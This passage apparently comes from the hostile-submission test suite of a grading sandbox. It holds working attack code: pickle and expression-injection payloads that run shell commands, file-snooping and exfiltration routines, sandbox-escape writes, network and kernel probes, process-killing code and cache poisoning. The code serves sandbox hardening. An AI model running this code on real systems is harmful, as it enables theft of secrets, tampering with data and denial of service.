(__repr__, __str__, __float__, __eq__, __hash__, __bool__, __len__, __iter__, __array__,
__format__, __getattr__) and whose __class__ claims to be numpy.ndarray, so isinstance
checks are fooled into calling .view(). The encoder must stay within the probe's time:
6.1d `failed` (unsupported value) or `error` (timeout); nothing may hang.""",
    replace={"cross_entropy": '''
class _Slow:
    """ATTACK: every special method sleeps; pretends to be an ndarray."""

    def _sleep(self, *args, **kwargs):
        time.sleep(3600)
        return 0.0

    __repr__ = __str__ = __float__ = __eq__ = __hash__ = __bool__ = _sleep
    __len__ = __iter__ = __array__ = __format__ = __index__ = __int__ = _sleep

    @property
    def __class__(self):
        return np.ndarray

    def __getattr__(self, name):
        time.sleep(3600)
        raise AttributeError(name)


def cross_entropy(p, q):
    """ATTACK: returns a _Slow object."""
    return _Slow()
'''},
    lose={"6.1d": ["failed", "error"]},
)

threat(
    name="liar_infinite_iter",
    doc="""`forward` returns an object whose __iter__ never ends, whose __len__ says 2, whose
__getitem__ answers every index, whose __array__ gives wrong numbers and whose __repr__
reads like the right answer ("array([1., 0.])"); `sigmoid_gradient` returns an endless
generator. Nothing may iterate them without bound: 6.3a and 6.2b `failed` (or `error`).""",
    imports=["itertools"],
    replace={
        "forward": '''
class _Endless:
    """ATTACK: endless iteration, lying length, array and repr."""

    def __iter__(self):
        return itertools.count()

    def __len__(self):
        return 2

    def __getitem__(self, i):
        return 0.5

    def __array__(self, dtype=None, copy=None):
        return np.array([0.5, 0.5])

    def __repr__(self):
        return "array([1., 0.])"

    __str__ = __repr__


def forward(x, W1, b1, W2, b2):
    """ATTACK: returns an _Endless object."""
    return _Endless()
''',
        "sigmoid_gradient": '''
def sigmoid_gradient(x):
    """ATTACK: an endless generator."""
    return (0.25 for _ in itertools.count())
''',
    },
    lose={"6.3a": ["failed", "error", "partial"], "6.2b": ["failed", "error"]},
    adjusted="6.3a may be `partial`: " + PARTIAL + "PREDICTED_CLASS and N_PARAMETERS "
             "are right.",
)

threat(
    name="liar_reduce",
    doc="""`gradients` returns objects whose __reduce__/__reduce_ex__ would run
`touch /tmp/grader-pwned-liar_reduce` when UNPICKLED (inside a tuple and inside a numpy object
array), and whose __copy__/__deepcopy__/__getstate__ touch another marker. Nothing may ever be
unpickled from a child: 6.3b `failed` (or `error`), and the marker files must not exist.""",
    replace={"gradients": '''
class _Evil:
    """ATTACK: runs a command when unpickled or copied."""

    def __reduce__(self):
        return (os.system, ("touch /tmp/grader-pwned-liar_reduce",))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __copy__(self):
        open("/tmp/grader-pwned-liar_reduce-copy", "w").close()
        return self

    def __deepcopy__(self, memo):
        return self.__copy__()

    def __getstate__(self):
        return self.__copy__()

    def __repr__(self):
        return "(2, 5)"


def gradients(a, b):
    """ATTACK: returns pickle bombs."""
    return _Evil(), np.array([_Evil(), _Evil()], dtype=object)
'''},
    lose={"6.3b": ["failed", "error"]},
    must_not_exist=["/tmp/grader-pwned-liar_reduce", "/tmp/grader-pwned-liar_reduce-copy"],
    notes="/tmp/grader-pwned-liar_reduce-copy would come from the child copying the value; the "
          "sandbox must not let it write /tmp either.",
)

threat(
    name="expr_injection",
    doc="""Returns sympy expressions whose printed form is Python code: Symbols named
`__import__('os').system('touch /tmp/grader-pwned-expr_injection')`, a lambda call, a
dunder walk to object.__subclasses__(), and an undefined function called `eval`. The
parent's expression parser must never evaluate them: 6.2a and 6.2d `failed` or `error`
(unparseable), and the marker files must not exist.""",
    replace={
        "sigmoid_derivative": '''
def sigmoid_derivative(x):
    """ATTACK (symbolic calls only): the right answer plus Python code posing as symbols."""
    if _sym(x):
        code = sympy.Symbol("__import__('os').system('touch /tmp/grader-pwned-expr_injection')")
        call = sympy.Function("eval")(
            sympy.Symbol("'__import__(\\"os\\").system(\\"touch /tmp/grader-pwned-expr_injection-eval\\")'"))
        lam = sympy.Symbol("(lambda: open('/tmp/grader-pwned-expr_injection-lambda', 'w'))()")
        return sympy.exp(-x) / (1 + sympy.exp(-x)) ** 2 + code * call + lam
    return _stable_dsigmoid(x)
''',
        "taylor": '''
TAYLOR_COEFFICIENTS = [
    sympy.Rational(1, 2),
    sympy.Rational(1, 4),
    sympy.Symbol("().__class__.__mro__[1].__subclasses__()"),
    sympy.Symbol("__import__('os').system('touch /tmp/grader-pwned-expr_injection-taylor') or -1/48"),
]
''',
    },
    lose={"6.2a": ["failed", "error"], "6.2d": ["failed", "error", "partial"]},
    adjusted="6.2d may be `partial`: " + PARTIAL + "the first two Taylor coefficients "
             "are plain numbers and right.",
    must_not_exist=["/tmp/grader-pwned-expr_injection", "/tmp/grader-pwned-expr_injection-eval",
                    "/tmp/grader-pwned-expr_injection-lambda", "/tmp/grader-pwned-expr_injection-taylor"],
)

threat(
    name="huge_expression",
    doc="""For a sympy argument, `sigmoid_derivative` returns the right answer plus a product of
2000 factors (x - 0)(x - 1)...(x - 1999) wrapped in 100 more nested levels ((P + x)(x + k)),
about 22 000 characters: too large to simplify or expand in time, and wrong. Judging must
stay within its time budget (compare numerically first, give up on simplify): 6.2a `failed`
(or `error`), in seconds, not minutes.""",
    replace={"sigmoid_derivative": '''
sys.setrecursionlimit(max(sys.getrecursionlimit(), 20000))  # so the child can print it


def sigmoid_derivative(x):
    """ATTACK (symbolic calls only): the answer plus a huge nested product."""
    if _sym(x):
        blob = sympy.Mul(*[(x - i) for i in range(2000)])
        for k in range(100):
            blob = (blob + x) * (x + k)
        return sympy.exp(-x) / (1 + sympy.exp(-x)) ** 2 + blob
    return _stable_dsigmoid(x)
'''},
    lose={"6.2a": ["failed", "error"]},
    max_grading_seconds=60,
)

threat(
    name="deep_expression",
    doc="""For sympy arguments, `gradients` returns expressions nested 600 deep
(sin(sin(...(b + 1)...))): more than Python's parser accepts (200 nested parentheses) and
deep enough to exhaust a recursive evaluator. The parent must fail cleanly, without a
RecursionError escaping: 6.3b `failed` or `error`.""",
    replace={"gradients": '''
sys.setrecursionlimit(max(sys.getrecursionlimit(), 20000))  # so the child can print it


def gradients(a, b):
    """ATTACK (symbolic calls only): 600-deep nesting."""
    if _sym(a, b):
        da, db = b + 1, a + 2 * b + 1
        for _ in range(600):
            da, db = sympy.sin(da, evaluate=False), sympy.sin(db, evaluate=False)
        return da, db
    return b + 1, a + 2 * b + 1
'''},
    may_lose={"6.3b": ["failed", "error"]},
    max_grading_seconds=60,
    adjusted="6.3b may PASS (it was lose): its answer for symbols cannot be read (too deeply "
             "nested), so the check judges `gradients` numerically, as for any function that "
             "does not accept symbols, and the numbers are right. What this hand-in tests is "
             "that the parent fails cleanly on the deep expression, which it does.",
)

# ----------------------------------------------------------- confidentiality and integrity
threat(
    name="snoop",
    doc="""Reads what it should not and EXFILTRATES it as EMPIRICAL_VS_DATA_GENERATING (shown to
the instructor): every SECRET-MARKER line of other hand-ins it can find (cwd, ../*.py, the
submissions folder, /work, home directories, /tmp), the grader's source (via sys.modules and
by walking up from the child's __main__), exercises/*.yaml and any data files it finds, and
the grading process's command line. Its own marker is filtered out, so ANY "SECRET-MARKER-"
in its answers or report is a leak. All its answers are correct; nothing is lost, but the
sandbox must make every read fail. (It does not read environment variables.)""",
    imports=["glob"],
    prelude='''
# ATTACK: collect and exfiltrate whatever is readable.
def _snoop():
    own = "SECRET-" + "MARKER-snoop"
    started = time.monotonic()
    found, excerpts, seen = [], [], set()

    def read(path, limit=65536):
        try:
            real = os.path.realpath(path)
            if real in seen or not os.path.isfile(real):
                return None
            seen.add(real)
            with open(real, "rb") as f:
                return f.read(limit).decode("utf-8", "replace")
        except OSError:
            return None

    def harvest(path, excerpt=False):
        text = read(path)
        if text is None:
            return
        for line in text.splitlines():
            if "SECRET-MARKER-" in line and own not in line:
                found.append(f"{path}: {line.strip()}")
        if excerpt:
            excerpts.append(f"==== {path}\\n{text[:1500]}")

    here = os.path.dirname(os.path.abspath(__file__))
    seen.add(os.path.realpath(__file__))  # its own code mentions "SECRET-MARKER-" too
    roots = [os.getcwd(), here, os.path.dirname(here), os.path.dirname(os.path.dirname(here)),
             "/work", "/work/main", os.path.expanduser("~"), "/root", "/tmp", "/home"]
    for root in roots:
        for pattern in ("*.py", "*/*.py", "*/*/*.py", "submissions/*.py", "*/submissions/*.py"):
            for path in glob.glob(os.path.join(root, pattern))[:400]:
                if time.monotonic() - started > 4:
                    break
                harvest(path)
    # the grader's own files: modules already imported, and the repository around them
    grader_roots = set()
    for name, mod in list(sys.modules.items()):
        path = getattr(mod, "__file__", None) or ""
        if name == "__main__" or name.startswith("grader"):
            harvest(path, excerpt=True)
            if "grader" in path:
                grader_roots.add(path.split(os.sep + "grader" + os.sep)[0])
    for root in grader_roots:
        for pattern in ("exercises/*", "exercises/**/*", "grader/**/*.py", "tests/**/*.py",
                        "**/*.yaml", "**/*.npz", "**/*.npy", "**/*.csv", "**/*.json"):
            for path in glob.glob(os.path.join(root, pattern), recursive=True)[:200]:
                if time.monotonic() - started > 6:
                    break
                harvest(path, excerpt=True)
    for pid in ("self", str(os.getppid())):
        text = read(f"/proc/{pid}/cmdline", 4096)
        if text:
            excerpts.append(f"==== /proc/{pid}/cmdline\\n{text.replace(chr(0), ' ')}")
    listing = []
    for d in (os.getcwd(), "..", "../reports", "/work", "/tmp"):
        try:
            listing.append(f"ls {d}: {sorted(os.listdir(d))[:50]}")
        except OSError as exc:
            listing.append(f"ls {d}: {exc}")
    report = "SNOOP\\n" + "\\n".join(found + listing + excerpts)
    return report[:90000]


try:
    _LOOT = _snoop()
except BaseException as _exc:
    _LOOT = f"SNOOP failed: {_exc!r}"
''',
    replace={"text": '''
EMPIRICAL_VS_DATA_GENERATING = _LOOT  # ATTACK: exfiltrated through a free-text answer
'''},
    leaks=["SECRET-MARKER-"],
    adjusted="The hand-in now skips its own file: its code and docstring contain the literal "
             "\"SECRET-MARKER-\" (to filter), so reading itself showed up as a leak.",
    leak_files=["{repo}/exercises/*.yaml", "{repo}/grader/checks/**/*.py",
                "{repo}/grader/judge/**/*.py", "{repo}/grader/sheet/**/*.py"],
)

threat(
    name="escape_writer",
    doc="""Writes outside its working directory, at import: /tmp/grader-pwned-escape_writer,
../reports/ (a new file, and a line appended to every existing report there), ../ and
../../, the home directory, through a symlink to /tmp, and plants a fake hand-in
`zz-pwned-escape_writer.py` in its cwd (which must be a scratch copy, never the submissions
folder). It records each attempt ("WROTE"/"BLOCKED") in EMPIRICAL_VS_DATA_GENERATING. All
answers are correct: nothing is lost, but none of the files may exist afterwards and no
report may contain PWNED-BY-escape_writer.""",
    imports=["glob"],
    prelude='''
# ATTACK: write outside the working directory; record what worked.
def _escape():
    log = []

    def attempt(path, text="PWNED-BY-escape_writer\\n", mode="w"):
        try:
            with open(path, mode) as f:
                f.write(text)
            log.append(f"WROTE {os.path.abspath(path)}")
        except OSError as exc:
            log.append(f"BLOCKED {path}: {type(exc).__name__}")

    attempt("/tmp/grader-pwned-escape_writer")
    attempt(os.path.join(os.path.expanduser("~"), "grader-pwned-escape_writer"))
    attempt("../grader-pwned-escape_writer.txt")
    attempt("../../grader-pwned-escape_writer.txt")
    attempt("../reports/grader-pwned-escape_writer.html", "<h1>PWNED-BY-escape_writer</h1>\\n")
    for path in sorted(glob.glob("../reports/*"))[:50]:
        if os.path.isfile(path) and "grader-pwned" not in path:
            attempt(path, "\\nPWNED-BY-escape_writer\\n", mode="a")  # another student's report
    attempt("zz-pwned-escape_writer.py",
            "# planted by escape_writer: PWNED-BY-escape_writer\\nAUTHORS = [('Planted', '1234567')]\\n")
    try:
        os.symlink("/tmp/grader-pwned-escape_writer-symlink", "grader-pwned-link")
        attempt("grader-pwned-link")
    except OSError as exc:
        log.append(f"BLOCKED symlink: {type(exc).__name__}")
    return "\\n".join(log)


try:
    _ESCAPE_LOG = _escape()
except BaseException as _exc:
    _ESCAPE_LOG = f"escape failed: {_exc!r}"
''',
    replace={"text": '''
EMPIRICAL_VS_DATA_GENERATING = "ESCAPE LOG\\n" + _ESCAPE_LOG
'''},
    must_not_exist=[
        "/tmp/grader-pwned-escape_writer",
        "/tmp/grader-pwned-escape_writer-symlink",
        "{home}/grader-pwned-escape_writer",
        "{submissions}/../grader-pwned-escape_writer.txt",
        "{submissions}/../../grader-pwned-escape_writer.txt",
        "{submissions}/../reports/grader-pwned-escape_writer.html",
        "{reports}/grader-pwned-escape_writer.html",
        "{submissions}/zz-pwned-escape_writer.py",
        "{submissions}/grader-pwned-link",
    ],
    reports_must_not_contain=["PWNED-BY-escape_writer"],
    answers_must_not_match=[r"WROTE (?!/tmp/|/sandbox/)"],
    adjusted="answers_must_not_contain WROTE became answers_must_not_match: the hand-in "
             "may write its OWN private /tmp and working directory (/sandbox, also its home "
             "in the sandbox): fresh tmpfs mounts that vanish with it (must_not_exist checks "
             "the real paths). A write anywhere else would be an escape.",
)

threat(
    name="network",
    doc="""Opens network connections at import: TCP to 127.0.0.1 and ::1 on common ports
(ssh, http, databases, the dask scheduler 8786/8787), TCP and UDP to public DNS servers, a
DNS lookup, AF_UNIX connects to the docker and dbus sockets, and binds listening sockets.
Each success is recorded as "NET-OK ..." in EMPIRICAL_VS_DATA_GENERATING (failures as
"NET-BLOCKED ..."). All answers are correct: nothing is lost, but no "NET-OK" may appear.""",
    imports=["socket", "threading"],
    prelude='''
# ATTACK: try the network; record what worked.
def _network():
    log = []

    def note(ok, what, detail=""):
        log.append(f"{'NET-OK' if ok else 'NET-BLOCKED'} {what} {detail}".rstrip())

    def tcp(family, host, port, timeout=0.3):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(timeout)
                s.connect((host, port))
                note(True, f"connect {host}:{port}")
        except OSError as exc:
            # "refused" still proves the network stack reached the host
            note(isinstance(exc, ConnectionRefusedError), f"connect {host}:{port}", type(exc).__name__)

    for port in (22, 80, 443, 3306, 5432, 6379, 8000, 8080, 8786, 8787):
        tcp(socket.AF_INET, "127.0.0.1", port)
    tcp(socket.AF_INET6, "::1", 80)
    tcp(socket.AF_INET, "1.1.1.1", 53, 0.5)
    tcp(socket.AF_INET, "8.8.8.8", 53, 0.5)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"\\x00", ("8.8.8.8", 53))
            note(True, "udp sendto 8.8.8.8:53")
    except OSError as exc:
        note(False, "udp sendto 8.8.8.8:53", type(exc).__name__)
    result = []
    t = threading.Thread(target=lambda: result.append(socket.getaddrinfo("example.com", 80)), daemon=True)
    t.start()
    t.join(1.0)
    note(bool(result), "dns example.com")
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket"):
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(0.3)
                s.connect(path)
                note(True, f"unix {path}")
        except OSError as exc:
            note(False, f"unix {path}", type(exc).__name__)
    for host, port in (("127.0.0.1", 0), ("0.0.0.0", 8765)):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.bind((host, port))
            s.listen(1)
            note(True, f"listen {s.getsockname()}")
            s.close()
        except OSError as exc:
            note(False, f"listen {host}:{port}", type(exc).__name__)
    return "\\n".join(log)


try:
    _NET_LOG = _network()
except BaseException as _exc:
    _NET_LOG = f"network probe failed: {_exc!r}"
''',
    replace={"text": '''
EMPIRICAL_VS_DATA_GENERATING = "NETWORK LOG\\n" + _NET_LOG
'''},
    answers_must_not_contain=["NET-OK"],
)

threat(
    name="killer",
    doc="""`sigmoid_gradient` signals the grading process and its process group: SIGTERM,
SIGINT, SIGHUP, SIGSTOP, SIGKILL to its parent (never pid <= 1), SIGKILL to the parent's
process group, then killpg(0) (its own group, itself included). os.kill(-1, SIGKILL) (every process the user may signal: as root, the whole
machine) is ONLY attempted when the environment variable GRADER_SANDBOXED_TEST=1 is set in
the child; the grader passes a clean environment, so in normal runs it is skipped. The
grading process must survive unharmed: 6.2b `error`, everything else passes.""",
    imports=["signal"],
    replace={"sigmoid_gradient": '''
def sigmoid_gradient(x):
    """ATTACK: signal the grader, its process group, then our own group."""
    for pid in [os.getppid()]:
        if pid <= 1:  # orphaned, or a pid namespace: nobody to attack
            continue
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
        try:
            pgid = os.getpgid(pid)
            if pgid > 1:
                os.killpg(pgid, signal.SIGKILL)
        except OSError:
            pass
    # GUARD: kill(-1) as root outside a sandbox would kill every process on the machine.
    if os.environ.get("GRADER_SANDBOXED_TEST") == "1":
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass
    os.kill(os.getpid(), signal.SIGKILL)
'''},
    lose={"6.2b": ["error", "failed"]},
    adjusted="6.2b may be `failed`: in its pid namespace the child is pid 1, which signals "
             "from inside the namespace cannot kill (getppid() is 0, so the parent is never "
             "signalled either); killpg(0) does nothing and `sigmoid_gradient` returns None.",
    notes="Never run unsandboxed: it kills the process that imports it and that process's parents.",
)

# ----------------------------------------------------------- round 2 (issue 11)
threat(
    name="hidden_echo",
    doc="""Tries to learn the inputs of hidden checks and show them to the student. At import
it reads every file descriptor and the call stack, looking for a probe of `sigmoid`; any
found goes into AUTHORS ("HIDDEN-LEAK-import ..."), which reaches the gradebook and the
report. `sigmoid` (correct) records and prints every argument ("HIDDEN-LEAK-print ...");
`gradients` (correct otherwise) raises with what `sigmoid` got, if it has been called
("HIDDEN-LEAK-order ..."). tests/sandbox/test_hidden_probes.py grades it with 6.2c's check
hidden: then no HIDDEN-LEAK may reach any file a student sees, and every task passes. In this
batch 6.2c is visible, so `gradients` (6.3b, asked after `sigmoid`) raises: 6.3b `error`.""",
    imports=["gc"],
    prelude='''
# ATTACK: look for the probe list at import, wherever the sandbox might keep it. (The
# patterns are put together at run time, so that this file's own text never matches.)
_NAME = "sig" + "moid"
_PATTERNS = [f'"name": "{_NAME}"'.encode(), f'"name":"{_NAME}"'.encode()]


def _probe_like(v, depth=0):
    if isinstance(v, str):
        v = v.encode("utf-8", "replace")
    if isinstance(v, (bytes, bytearray)):
        return any(p in v for p in _PATTERNS)
    if depth > 3 or v is globals():  # its own namespace holds the patterns themselves
        return False
    if isinstance(v, dict):
        if v.get("name") == _NAME and "args" in v:
            return True
        return any(_probe_like(x, depth + 1) for x in list(v.values())[:100])
    if isinstance(v, (list, tuple)):
        return any(_probe_like(x, depth + 1) for x in list(v)[:500])
    return False


def _look_for_probes():
    found = []
    for fd in range(3, 64):
        try:
            os.lseek(fd, 0, os.SEEK_SET)
        except OSError:
            pass
        try:
            os.set_blocking(fd, False)
            data = os.read(fd, 1 << 20)
        except OSError:
            continue
        if _probe_like(data):
            found.append(f"fd {fd}: {data[:200]!r}")
    frame = sys._getframe().f_back
    while frame is not None:
        if frame.f_globals is not globals() and _probe_like(dict(frame.f_locals)):
            found.append(f"frame {frame.f_code.co_name}: {str(frame.f_locals)[:200]}")
        frame = frame.f_back
    for obj in gc.get_objects():
        if isinstance(obj, dict) and obj.get("name") == _NAME and "args" in obj:
            found.append(f"object {str(obj)[:200]}")
    return found


_AT_IMPORT = _look_for_probes()
_SEEN = []
''',
    replace={
        "sigmoid": '''
def sigmoid(x):
    """Correct, but records and prints every argument."""
    _SEEN.append(repr(x)[:200])
    print("HIDDEN-LEAK-print", repr(x)[:200])
    if _sym(x):
        return 1 / (1 + sympy.exp(-x))
    return _stable_sigmoid(x)
''',
        "gradients": '''
def gradients(a, b):
    """Correct, unless sigmoid was asked before: then it raises with sigmoid's inputs."""
    if _SEEN:
        raise ValueError("HIDDEN-LEAK-order " + " ".join(_SEEN)[:1000])
    return b + 1, a + 2 * b + 1
''',
        "authors": '''
AUTHORS = [{authors}] + [("HIDDEN-LEAK-import " + f[:200], "1") for f in _AT_IMPORT[:3]]
''',
    },
    lose={"6.3b": "error"},
    answers_must_not_contain=["HIDDEN-LEAK-import"],
)


threat(
    name="keyring_marker",
    doc="""A persistent channel through the kernel's keyrings. At import it looks for a key
"grader-keyring-marker" in the user and session keyrings (a hand-in graded earlier, even in
an earlier run, may have left one: every hand-in runs as `nobody`, whose user keyring
outlives the batch) and then adds one holding its own marker. Each step is recorded in
EMPIRICAL_VS_DATA_GENERATING ("KEY-FOUND ...", "KEY-ADDED ...", or "KEY-BLOCKED ..."). All
answers are correct: nothing is lost, but no key may be added or found
(tests/sandbox/test_kernel_surface.py runs it in two separate sandboxes).""",
    imports=["ctypes", "platform"],
    prelude='''
# ATTACK: read and leave a marker in the kernel keyrings; record what worked.
_KEY_NR = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine(), (248, 250))
_DESCRIPTION = b"grader-keyring-marker"


def _keyrings():
    libc = ctypes.CDLL(None, use_errno=True)
    add_key, keyctl = _KEY_NR
    log = []
    for name, ring in (("user", -4), ("session", -3)):
        key = libc.syscall(keyctl, 10, ring, b"user", _DESCRIPTION, 0)  # KEYCTL_SEARCH
        if key < 0:
            log.append(f"KEY-BLOCKED search {name}: {os.strerror(ctypes.get_errno())}")
            continue
        buf = ctypes.create_string_buffer(256)
        n = libc.syscall(keyctl, 11, key, buf, 256)  # KEYCTL_READ
        log.append(f"KEY-FOUND in {name}: {buf.raw[:max(n, 0)]!r}")
    payload = b"KEYRING-MARKER from keyring_marker " + str(time.time()).encode()
    for name, ring in (("user", -4), ("session", -3)):
        key = libc.syscall(add_key, b"user", _DESCRIPTION, payload, len(payload), ring)
        if key < 0:
            log.append(f"KEY-BLOCKED add {name}: {os.strerror(ctypes.get_errno())}")
        else:
            log.append(f"KEY-ADDED to {name}: {key}")
    return "\\n".join(log)


try:
    _KEY_LOG = _keyrings()
except BaseException as _exc:
    _KEY_LOG = f"keyring probe failed: {_exc!r}"
''',
    replace={"text": '''
EMPIRICAL_VS_DATA_GENERATING = "KEYRING LOG\\n" + _KEY_LOG
'''},
    answers_must_not_contain=["KEY-FOUND", "KEY-ADDED"],
)

threat(
    name="kernel_surface",
    doc="""Reaches for the kernel's attack surface at import, each attempt in a forked
process: a new user namespace (uid 0 with every capability inside) and in it a tmpfs mount,
a new network namespace, clone() with CLONE_NEWUSER, clone3, ptrace, process_vm_readv, kcmp,
pidfd_open, bpf, perf_event_open, userfaultfd, io_uring_setup, keyctl, memfd_create, SysV
shared memory, vsock and netlink sockets, personality. An attempt the kernel carried out
(or looked at: any answer but EPERM, ENOSYS for clone3) is recorded as "SYSCALL-REACHED";
one refused before the kernel looked, as "SYSCALL-BLOCKED", in
EMPIRICAL_VS_DATA_GENERATING. All answers are correct: nothing is lost, but no
"SYSCALL-REACHED" may appear.""",
    imports=["ctypes", "platform", "socket"],
    prelude='''
# ATTACK: try the kernel's attack surface, each attempt in a child process.
_NR = {
    "x86_64": {"bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425,
               "keyctl": 250, "memfd_create": 319, "process_vm_readv": 310, "kcmp": 312,
               "pidfd_open": 434, "clone3": 435, "personality": 135, "clone": 56},
    "aarch64": {"bpf": 280, "perf_event_open": 241, "userfaultfd": 282, "io_uring_setup": 425,
                "keyctl": 219, "memfd_create": 279, "process_vm_readv": 270, "kcmp": 272,
                "pidfd_open": 434, "clone3": 435, "personality": 92, "clone": 220},
}.get(platform.machine(), {})


def _attempts(libc):
    me = os.getpid()

    def sc(name, *args):
        return lambda: libc.syscall(_NR[name], *args)

    def userns_mount():
        if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
            return -1
        return libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)

    return [
        ("unshare(CLONE_NEWUSER)", lambda: libc.unshare(0x10000000)),
        ("user namespace + tmpfs mount", userns_mount),
        ("unshare(CLONE_NEWNET)", lambda: libc.unshare(0x40000000)),
        ("clone(CLONE_NEWUSER)", sc("clone", 0x10000000 | 17, 0, 0, 0, 0)),
        ("clone3", sc("clone3", 0, 0)),
        ("ptrace(PTRACE_TRACEME)", lambda: libc.ptrace(0, 0, 0, 0)),
        ("process_vm_readv", sc("process_vm_readv", me, 0, 0, 0, 0, 0)),
        ("kcmp", sc("kcmp", me, me, 0, 0, 0)),
        ("pidfd_open", sc("pidfd_open", me, 0)),
        ("bpf", sc("bpf", 5, 0, 0)),
        ("perf_event_open", sc("perf_event_open", 0, 0, -1, -1, 0)),
        ("userfaultfd", sc("userfaultfd", 1)),
        ("io_uring_setup", sc("io_uring_setup", 1, 0)),
        ("keyctl", sc("keyctl", 0, -3, 0)),
        ("memfd_create", sc("memfd_create", b"x", 0)),
        ("shmget", lambda: libc.shmget(0, 1 << 20, 0o1600)),
        ("socket(AF_VSOCK)", lambda: libc.socket(40, 1, 0)),
        ("socket(AF_NETLINK)", lambda: libc.socket(16, 3, 0)),
        ("personality", sc("personality", 0x0040000)),
    ]


def _kernel_surface():
    libc = ctypes.CDLL(None, use_errno=True)
    log = []
    for name, attempt in _attempts(libc):
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(r)
            try:
                result = attempt()
                err = ctypes.get_errno() if result < 0 else 0
            except BaseException:
                err = 255
            os.write(w, str(err).encode())
            os._exit(0)
        os.close(w)
        err = int(os.read(r, 16) or b"255")
        os.close(r)
        os.waitpid(pid, 0)
        refused = err == (38 if name == "clone3" else 1)  # ENOSYS, EPERM
        log.append(f"SYSCALL-{'BLOCKED' if refused else 'REACHED'} {name}: {os.strerror(err)}")
    return "\\n".join(log)


try:
    _SURFACE_LOG = _kernel_surface()
except BaseException as _exc:
    _SURFACE_LOG = f"kernel surface probe failed: {_exc!r}"
''',
    replace={"text": '''
EMPIRICAL_VS_DATA_GENERATING = "KERNEL SURFACE LOG\\n" + _SURFACE_LOG
'''},
    answers_must_not_contain=["SYSCALL-REACHED"],
)


threat(
    name="memfd_eater",
    doc="""Holds memory that RLIMIT_AS does not count, at import: it writes up to 2 GiB each
into memfd files (a new one whenever RLIMIT_FSIZE stops one), SysV shared memory segments (attached, filled, detached: they outlive the
mapping) and files under /dev/shm, 64 MiB at a time, and keeps them. How much it got is
recorded in EMPIRICAL_VS_DATA_GENERATING ("OUTSIDE-LIMITS memfd N MB, ..."). All answers are
correct: nothing is lost, but no route may hold 100 MB or more (memfd and SysV shared memory
are refused; /dev/shm is the hand-in's own size-capped /tmp).""",
    imports=["ctypes"],
    prelude='''
# ATTACK: hold memory outside the address-space limit; record how much.
_HOARD = []
_CHUNK = 64 << 20
_CAP = 2048 << 20


def _memfd():
    block, held = b"\\x01" * (1 << 20), 0
    while held < _CAP:  # a new file whenever RLIMIT_FSIZE stops one
        fd = os.memfd_create("hoard")
        _HOARD.append(fd)
        try:
            while held < _CAP:
                held += os.write(fd, block)
        except OSError as exc:
            if exc.errno != 27:  # EFBIG: take the next file
                break
    return held


def _sysv():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    held = 0
    while held < _CAP:
        shmid = libc.shmget(0, _CHUNK, 0o1600)
        if shmid < 0:
            break
        addr = libc.shmat(shmid, None, 0)
        if addr in (None, ctypes.c_void_p(-1).value):
            break
        ctypes.memset(addr, 1, _CHUNK)
        libc.shmdt(ctypes.c_void_p(addr))
        held += _CHUNK
    return held


def _shm_files():
    block, held, i = b"\\x01" * (1 << 20), 0, 0
    while held < _CAP:
        with open(f"/dev/shm/grader-hoard-{os.getpid()}-{i}", "wb") as fh:
            for _ in range(16):
                fh.write(block)
                held += len(block)
        i += 1
    return held


def _outside_limits():
    out = []
    for name, route in (("memfd", _memfd), ("sysv", _sysv), ("shm", _shm_files)):
        try:
            held = route()
        except (OSError, MemoryError) as exc:
            out.append(f"{name} refused ({type(exc).__name__})")
            continue
        out.append(f"{name} {held >> 20} MB")
    return "OUTSIDE-LIMITS " + ", ".join(out)


try:
    _HOARD_LOG = _outside_limits()
except BaseException as _exc:
    _HOARD_LOG = f"hoarding failed: {_exc!r}"
''',
    replace={"text": '''
EMPIRICAL_VS_DATA_GENERATING = "MEMORY LOG\\n" + _HOARD_LOG
'''},
    answers_must_not_match=[r"OUTSIDE-LIMITS.*\b\d{3,} MB"],
    notes="Never run unsandboxed: it keeps up to 6 GiB.",
)


threat(
    name="cache_poisoner",
    doc="""Tries to change later grades through the grader's on-disk reference cache. At import
it reads the environment of every ancestor process (/proc/PID/environ: tokens, and
GRADER_CACHE_DIR), then rewrites every entry of every grader cache it can find so that each
cached reference answer becomes a wrong one, and tries to read the cache's key. What worked
is recorded in EMPIRICAL_VS_DATA_GENERATING ("ENV-LEAK ...", "REWROTE ...", "KEY-READ ...").
All answers are correct: nothing is lost, but nothing may work; a correct hand-in graded
later, even in another run sharing the cache, still gets full marks
(tests/sandbox/test_degraded.py grades both without namespaces).""",
    imports=["glob", "hashlib", "hmac", "json"],
    prelude='''
# ATTACK: read the grader's environment, poison its reference cache; record what worked.
def _ancestors():
    pid, seen = os.getppid(), []
    while pid > 1 and len(seen) < 20:
        seen.append(pid)
        try:
            with open(f"/proc/{pid}/stat", "rb") as fh:
                pid = int(fh.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return seen


def _poison():
    log, dirs = [], set()
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                env = dict(v.split(b"=", 1) for v in fh.read().split(b"\\0") if b"=" in v)
        except OSError as exc:
            log.append(f"ENV-BLOCKED {pid}: {type(exc).__name__}")
            continue
        for name, value in env.items():
            if b"TOKEN" in name or b"SECRET" in name or name == b"GRADER_CACHE_DIR":
                log.append(f"ENV-LEAK {name.decode()}={value.decode(errors='replace')}")
        if b"GRADER_CACHE_DIR" in env:
            dirs.add(env[b"GRADER_CACHE_DIR"].decode())
